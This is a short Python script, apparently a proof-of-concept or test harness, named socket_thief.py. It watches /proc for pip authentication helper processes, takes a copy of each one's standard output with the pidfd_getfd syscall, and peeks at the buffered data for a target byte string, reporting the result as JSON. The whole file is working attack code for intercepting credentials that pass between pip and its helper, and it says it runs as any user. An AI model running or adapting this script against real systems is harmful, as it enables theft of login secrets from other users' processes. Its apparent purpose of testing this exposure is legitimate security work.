"""Copies the standard output of every `auth helper late` as soon as it is there (pidfd_getfd), and looks what comes by.

    python socket_thief.py WORD STOP [PID]     WORD in hexadecimal; prints [sockets copied, word found] as JSON

PID: of one process to copy descriptor 1 of, in place of the helpers. Standard library only: it runs as any user.
"""

import ctypes
import json
import os
import socket
import sys

PIDFD_OPEN, PIDFD_GETFD = 434, 438  # asm-generic/unistd.h
LIBC = ctypes.CDLL(None)


def main():
    word, stop, only = bytes.fromhex(sys.argv[1]), sys.argv[2], sys.argv[3:]
    seen, copies, found = set(), [], False
    while not os.path.exists(stop):
        for pid in filter(str.isdigit, only or os.listdir("/proc")):
            if pid not in seen and (only or is_helper(pid)):
                seen.add(pid)
                copies += copied(pid)
        found = found or any(word in waiting(copy) for copy in copies)
    print(json.dumps([len(copies), found]))


def is_helper(pid):
    """True for the program that answers a question of a running pip."""
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as file:
            return b"helper\0late" in file.read()
    except OSError:
        return False


def copied(pid):
    """[its standard output as a socket of ours], [] where the kernel refuses."""
    number = LIBC.syscall(PIDFD_GETFD, LIBC.syscall(PIDFD_OPEN, int(pid), 0), 1, 0)
    try:
        return [socket.socket(fileno=number)] if number >= 0 else []
    except OSError:
        return []


def waiting(copy):
    """What is in the socket's buffer, which stays there."""
    try:
        return copy.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except OSError:
        return b""


if __name__ == "__main__":
    main()
